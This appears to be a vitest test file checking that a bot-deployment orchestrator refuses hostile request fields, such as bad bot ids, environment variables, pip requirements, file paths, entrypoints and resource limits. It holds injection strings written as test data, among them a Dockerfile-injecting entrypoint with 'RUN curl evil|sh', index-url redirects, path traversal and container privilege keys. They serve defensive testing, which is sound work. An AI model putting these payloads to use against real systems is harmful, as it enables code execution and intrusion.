/** Hostile fields of requests: names, variables, requirements, files, limits. */
import { describe, expect, it } from 'vitest';
import { type HostileCase, openHostileDoors, simple, start } from '../kit/hostile-doors.ts';

const doors = openHostileDoors();

const files = (value: unknown) => ({ ...simple, code: null, files: value });
const withEnv = (env_vars: unknown) => ({ ...simple, env_vars });
const withLimits = (resource_limits: unknown) => ({ ...simple, resource_limits });
const withRequirements = (...requirements: unknown[]) => ({ ...simple, requirements });

describe('hostile 18: a bot id is 1 to 64 of [a-zA-Z0-9_-]', () => {
  const named = (bot_id: unknown): HostileCase => [
    JSON.stringify(bot_id)?.slice(0, 60) ?? 'none',
    { ...simple, bot_id },
    'INVALID_BOT_ID',
  ];
  doors.refuses([
    ['""', { ...simple, bot_id: '' }, 'MISSING_REQUIRED_FIELD'],
    ...[
      'a'.repeat(65),
      ' ',
      'a b',
      'тест бот!',
      '🤖',
      'a/b',
      '..',
      '.',
      '-rm x',
      'a\n',
      '\na',
      'a\u0000',
      'a\u202eb',
      'ａ',
      'a%2fb',
      "a'b",
    ].map(named),
  ]);
});

describe('hostile 19, 20, 21: names that look alike or like something else are names', () => {
  it('each is a bot of its own', async () => {
    const names = [
      'Bot',
      'bot',
      'latest',
      'list',
      '__proto__',
      'constructor',
      '-'.repeat(64),
      '0',
      '-rm',
      'c0ffee123456',
      'b_c',
      'b-c',
    ];
    const before = (await doors.list()).count;
    for (const bot_id of names) expect((await doors.orchestrator.post({ ...simple, bot_id })).status, bot_id).toBe(202);
    const after = await doors.list();
    expect(after.count).toBe(before + names.length);
    expect(after.bots.map(({ bot_id }: { bot_id: string }) => bot_id)).toEqual(expect.arrayContaining(names));
    for (const bot_id of names)
      expect((await doors.orchestrator.post({ action: 'delete', bot_id })).status, bot_id).toBe(202);
  });
});

describe('environment variables', () => {
  const named = (name: string): HostileCase => [
    `hostile 23: the name ${JSON.stringify(name).slice(0, 40)}`,
    withEnv({ [name]: 'x' }),
    'INVALID_ENV_VARS',
  ];
  const valued = (value: unknown): HostileCase => [
    `hostile 27: the value ${JSON.stringify(value)}`,
    withEnv({ A: value }),
    'INVALID_ENV_VARS',
  ];
  doors.refuses([
    ...['', '=x', 'A=B', 'A B', 'A\nB', '1A', 'A-B', 'A'.repeat(300), 'ИМЯ', 'A\u0000'].map(named),
    ['hostile 24: a value with a NUL', withEnv({ A: 'a\0b' }), 'INVALID_ENV_VARS'],
    ['hostile 25: a value of 128 KiB', withEnv({ A: 'x'.repeat(128 * 1024) }), 'INVALID_ENV_VARS'],
    [
      'hostile 25: 300 KiB together',
      withEnv(Object.fromEntries(Array.from({ length: 10 }, (_, n) => [`A${n}`, 'x'.repeat(30 * 1024)]))),
      'INVALID_ENV_VARS',
    ],
    [
      'hostile 25: 201 variables',
      withEnv(Object.fromEntries(Array.from({ length: 201 }, (_, n) => [`A${n}`, 'x']))),
      'INVALID_ENV_VARS',
    ],
    ['hostile 26: a reserved name', withEnv({ BOTRUNNER_X: 'y' }), 'INVALID_ENV_VARS'],
    ...[5, true, null, { a: 1 }, ['x']].map(valued),
  ]);
});

describe('hostile 30, 31, 32: requirements', () => {
  const item = (text: unknown): HostileCase => [
    JSON.stringify(text).slice(0, 60),
    withRequirements(text),
    'INVALID_REQUIREMENTS',
  ];
  doors.refuses([
    ...[
      'a\n--index-url http://evil',
      '--extra-index-url http://evil',
      '-r /etc/passwd',
      '-e .',
      '--find-links x',
      '-c x',
      'pkg @ file:///etc',
      'pkg @ git+ssh://git@host/x',
      'git+https://host/x.git',
      'https://user:pw@host/x.whl',
      './x',
      'a\0',
      'x'.repeat(1_000_000),
      5,
    ].map(item),
    ['5,000 of them', withRequirements(...Array.from({ length: 5_000 }, (_, n) => `p${n}`)), 'INVALID_REQUIREMENTS'],
    ['10,000 of them', withRequirements(...Array.from({ length: 10_000 }, (_, n) => `p${n}`)), 'MALFORMED_REQUEST'],
  ]);
});

describe('files and the entrypoint', () => {
  const key = (name: string): HostileCase => [
    `hostile 34: the name ${JSON.stringify(name).slice(0, 40)}`,
    files({ [name]: 'x', 'bot.py': '' }),
    'INVALID_FILE_PATH',
  ];
  const run = (entrypoint: string): HostileCase => [
    `hostile 38: ${JSON.stringify(entrypoint)}`,
    { ...files({ 'bot.py': '' }), entrypoint },
    'INVALID_ENTRYPOINT',
  ];
  doors.refuses([
    ...[
      '../x',
      '/etc/cron.d/x',
      'a/../../b',
      'a\\..\\b',
      'C:\\x',
      '',
      '.',
      'a//b',
      'a/',
      'a\u0000',
      'x'.repeat(300),
      Array(50).fill('d').join('/'),
      'a ',
      'a.',
      'a /b',
      '-x',
      'a\nb',
      'a\u202eb',
    ].map(key),
    ['hostile 36: a file that is a folder too', files({ a: '', 'a/b': '', 'bot.py': '' }), 'INVALID_FILE_PATH'],
    [
      'hostile 36: one name in two Unicode forms',
      files({ '\u00e9.py': '', 'e\u0301.py': '', 'bot.py': '' }),
      'INVALID_FILE_PATH',
    ],
    [
      'hostile 37: 100,000 files',
      files(Object.fromEntries(Array.from({ length: 100_000 }, (_, n) => [`f${n}`, '']))),
      'MALFORMED_REQUEST',
    ],
    ['hostile 37: a file of 20 MB', files({ 'bot.py': 'x'.repeat(20_000_000) }), 'PAYLOAD_TOO_LARGE', 413],
    ['hostile 37: a file that is no text', files({ 'bot.py': 5 }), 'INVALID_FILE_CONTENT'],
    ['hostile 37: code and files', { ...simple, files: { 'bot.py': '' } }, 'CONFLICTING_FIELDS'],
    ['hostile 37: no file', files({}), 'EMPTY_FILES'],
    ['hostile 37: no code', { ...start, deployment_mode: 'simple' }, 'MISSING_CODE'],
    ...[
      'bot.py"]\nRUN curl evil|sh\nCMD ["x',
      '-c',
      '-m',
      '/bin/sh',
      '../x.py',
      'a b.py',
      '$(x)',
      'absent.py',
      'bot.py\0',
    ].map(run),
  ]);

  it('hostile 35, 36: a Dockerfile is a file, and names that differ in case are two', async () => {
    const names = {
      'bot.py': '',
      Dockerfile: 'FROM evil',
      '.dockerignore': '*',
      'requirements.txt': '',
      'A.py': '',
      'a.py': '',
    };
    expect((await doors.orchestrator.post({ ...files(names), bot_id: 'plain-files' })).status).toBe(202);
    await doors.orchestrator.post({ action: 'delete', bot_id: 'plain-files' });
  });
});

describe('hostile 78, 79: resource limits', () => {
  const limit = (limits: object): HostileCase => [
    JSON.stringify(limits),
    withLimits(limits),
    'INVALID_RESOURCE_LIMITS',
  ];
  doors.refuses([
    ...[0, -1, 1e18, 1e300, '256m', 3, 1.5, null, true, [256]].map((memory_mb) => limit({ memory_mb })),
    ...[0, -1, 1e18, 1e300, '1g', 3, 1.5, null, true, [256]].map((disk_mb) => limit({ disk_mb })),
    ...[0, -1, 99, 1e-9, '0.5', null].map((cpu_cores) => limit({ cpu_cores })),
    ...['pids', 'privileged', 'binds', 'devices', 'network_mode', 'cap_add', 'runtime', 'ipc', 'pid', 'userns'].map(
      (name) => limit({ [name]: 1 }),
    ),
  ]);
});

describe('hostile 97: log lines', () => {
  const lines = (value: unknown): HostileCase => [
    JSON.stringify(value),
    { action: 'logs', bot_id: 'resident', lines: value },
    'INVALID_LINES',
  ];
  doors.refuses([0, -1, 1e9, 10_001, 1.5, 'abc', '', '-5', true, {}].map(lines));
});
